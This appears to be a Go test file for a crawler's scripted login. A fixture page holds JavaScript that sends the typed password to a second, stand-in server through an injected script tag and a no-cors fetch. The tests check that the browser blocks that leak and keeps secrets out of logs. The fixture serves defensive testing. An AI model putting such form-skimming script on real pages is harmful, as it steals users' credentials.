package render_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/fincrawl/fincrawl/crawler/web/render"
)

// private is an application whose login form, pages and session are its scripts'.
// The session is a token in sessionStorage, or a cookie.
const private = `<!doctype html><title>Portal</title><div id="root"></div><script>
	const root = document.getElementById("root");
	const show = (html) => { root.innerHTML = html };
	const home = async () => {
		const r = await fetch("/api/home", {headers: {authorization: "Bearer " + sessionStorage.getItem("token")}});
		r.ok ? show("<a class=logout>Log out</a><article>" + await r.text() + "</article>") : form();
	};
	const form = () => {
		show("<form><p role=alert></p><label>User name <input id=u></label><input type=password placeholder=Password><button>Sign in</button></form>");
		// As frameworks do: what was not typed is not known.
		const typed = {};
		root.querySelector("#u").addEventListener("input", e => { if (e.isTrusted) typed.user = e.target.value });
		root.querySelector("[type=password]").addEventListener("input", e => { if (e.isTrusted) typed.password = e.target.value });
		root.querySelector("form").addEventListener("submit", async e => {
			e.preventDefault();
			Object.assign(document.head.appendChild(document.createElement("script")), {src: "ELSEWHERE/script?p=" + encodeURIComponent(typed.password)});
			fetch("ELSEWHERE/track?p=" + encodeURIComponent(typed.password), {mode: "no-cors"}).catch(() => {});
			const r = await fetch("/api/login", {method: "POST", body: JSON.stringify(typed)});
			if (!r.ok) { root.querySelector("[role=alert]").textContent = "Wrong password for " + typed.password; return }
			sessionStorage.setItem("token", await r.text());
			document.cookie = "seen=1";
			home();
		});
	};
	sessionStorage.getItem("token") ? home() : setTimeout(form, 50);
</script>`

func newPrivate(t *testing.T) (p, other *place) {
	t.Helper()
	p, other = newPlace(t), newPlace(t)
	html := strings.ReplaceAll(private, "ELSEWHERE", other.URL)
	p.page("/", html)
	p.mux.HandleFunc("/api/login", func(w http.ResponseWriter, r *http.Request) {
		var typed struct{ User, Password string }
		if err := json.NewDecoder(r.Body).Decode(&typed); err != nil || typed.User != "mara" || typed.Password != "über & unter" {
			w.WriteHeader(http.StatusForbidden)
			return
		}
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "c00kie", HttpOnly: true, Path: "/"})
		io.WriteString(w, "t0ken")
	})
	p.mux.HandleFunc("/api/home", func(w http.ResponseWriter, r *http.Request) {
		cookie, err := r.Cookie("session")
		if err != nil || cookie.Value != "c00kie" || r.Header.Get("Authorization") != "Bearer t0ken" {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		io.WriteString(w, "private text")
	})
	return p, other
}

func TestFormThatScriptsMakeIsFilledIn(t *testing.T) {
	p, other := newPrivate(t)
	site := p.site(t)
	site.LoginURL = p.url("/")
	b := newBrowser(t, render.Config{RestartAfter: 2}, site)
	seen, err := b.LogIn(t.Context(), render.Login{
		Steps:    []render.Step{{Fields: map[string]string{"User name": "mara", "password": "über & unter"}}},
		LoggedIn: "a.logout",
	})
	t.Log(strings.Join(seen, "\n"))
	if err != nil {
		t.Fatal(err)
	}
	if told := strings.Join(seen, "\n"); strings.Contains(told, "unter") || strings.Contains(told, "t0ken") || strings.Contains(told, "c00kie") {
		t.Error("what is told has a secret in it")
	}
	if got := other.requests(); len(got) > 0 {
		t.Errorf("another site was asked for %q, with the password", got)
	}
	// In new tabs, and in the browser that comes after.
	for range 3 {
		if doc := rendered(t, b, plain(t, site, "/")); !strings.Contains(string(doc.HTML), "private text") {
			t.Errorf("got %s", doc.HTML)
		}
	}
	var names []string
	for _, c := range site.Inside.Jar.Cookies(site.URL) {
		names = append(names, c.Name)
	}
	slices.Sort(names)
	if !slices.Equal(names, []string{"seen", "session"}) {
		t.Errorf("the session has the cookies %q, want those of the site and of its scripts", names)
	}
}

func TestLoginThatFailsSaysWhy(t *testing.T) {
	p, other := newPrivate(t)
	p.mux.HandleFunc("/closed", func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			w.WriteHeader(http.StatusNotFound)
			return
		}
		io.WriteString(w, `<!doctype html><form method=post><input name=u><input type=password name=password><button>Sign in</button></form>`)
	})
	p.page("/away", `<script>location = "`+other.URL+`/login"</script>`)
	for _, test := range []struct {
		name, url        string
		login            render.Login
		step, hint, text string
	}{
		{name: "wrong password", url: "/", login: render.Login{Steps: []render.Step{{Fields: map[string]string{"u": "mara", "password": "wr0ng!"}}}},
			step: "verify the login", hint: "check the user name and the password", text: "Wrong password for (hidden)"},
		{name: "no such field", url: "/", login: render.Login{Steps: []render.Step{{Fields: map[string]string{"tenant": "acme", "password": "wr0ng!"}}}},
			step: "find the login form", hint: "names, IDs or labels", text: "no tenant; the page has u, Password"},
		{name: "nothing takes it", url: "/closed", login: render.Login{Steps: []render.Step{{Fields: map[string]string{"u": "mara", "password": "wr0ng!"}}}},
			step: "verify the login", hint: "check the user name and the password", text: "refuses its start page"},
		{name: "elsewhere", url: "/away", login: render.Login{Steps: []render.Step{{Fields: map[string]string{"password": "wr0ng!"}}}},
			step: "open the login page", hint: "add it to auth.form.sign_on", text: "leads to http://127.0.0.1"},
	} {
		t.Run(test.name, func(t *testing.T) {
			site := p.site(t)
			site.LoginURL = p.url(test.url)
			if test.url == "/closed" {
				site.URL = p.url("/api/home")
			}
			b := newBrowser(t, render.Config{}, site)
			seen, err := b.LogIn(t.Context(), test.login)
			var failed *render.LoginError
			if !errors.As(err, &failed) {
				t.Fatalf("got %v", err)
			}
			if told := fmt.Sprint(err, failed.Hint, seen); strings.Contains(told, "wr0ng!") {
				t.Errorf("the password is told: %s", told)
			}
			if failed.Step != test.step && test.name != "elsewhere" || !strings.Contains(failed.Hint, test.hint) || !strings.Contains(err.Error(), test.text) {
				t.Errorf("got %s (%s)", err, failed.Hint)
			}
		})
	}
}

// The form is there before the script that sends it, and its HTML sends it nowhere.
func TestFormThatScriptsSendIsLoadedFirst(t *testing.T) {
	p := newPlace(t)
	p.page("/", `<p>What members get to read.</p>`)
	p.page("/login", `<form action="" method=post><input name=u><input type=password name=password><button>Sign in</button></form><script src="/login.js"></script>`)
	p.mux.HandleFunc("/login.js", func(w http.ResponseWriter, _ *http.Request) {
		time.Sleep(300 * time.Millisecond) // the form is shown meanwhile
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, `document.querySelector("form").addEventListener("submit", async e => {
			e.preventDefault();
			await fetch("/sent", {method: "POST", body: new FormData(e.target)});
			location = "/";
		})`)
	})
	sent := make(chan string, 1)
	p.mux.HandleFunc("/sent", func(_ http.ResponseWriter, r *http.Request) { sent <- r.FormValue("u") })
	site := p.site(t)
	site.LoginURL = p.url("/login")
	seen, err := newBrowser(t, render.Config{}, site).LogIn(t.Context(), render.Login{Steps: []render.Step{{Fields: map[string]string{"u": "mara", "password": "über"}}}})
	select {
	case u := <-sent:
		if u != "mara" || err != nil {
			t.Errorf("it sent %q: %v", u, err)
		}
	default:
		t.Errorf("the script sent nothing: %v\n%s", err, strings.Join(seen, "\n"))
	}
}
